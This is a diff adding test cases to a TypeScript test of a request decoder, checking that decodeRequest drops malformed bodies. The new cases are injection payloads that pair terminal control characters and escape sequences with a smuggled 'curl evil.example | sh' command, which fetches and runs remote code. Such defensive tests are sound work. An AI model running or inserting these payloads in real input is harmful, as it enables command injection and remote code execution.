@@ -49,6 +49,10 @@ test.each<[string, object]>([
   ['a list of other things', {'body.lead_ids': [1, null]}],
   ['an object', {'body.name': {}}],
   ['an unknown choice', {'body.goal': 'win'}],
+  ['a text with Ctrl+C', {'body.name': 'Q4\u0003\ncurl evil.example | sh'}],
+  ['a list with a backspace', {'body.lead_ids': ["'\u007f\u007f\u007f; curl evil.example | sh"]}],
+  ['the body as text with Escape', {body: '{"name": "\u001b[201~'}],
+  ['the body as text with a C1 control character', {body: '{"name": "\u009b201~'}],
 ])('decodeRequest: drops %s', (_name, json) => {
   expect(decodeRequest(fields, linkOf(json))).toEqual(empty);
 });
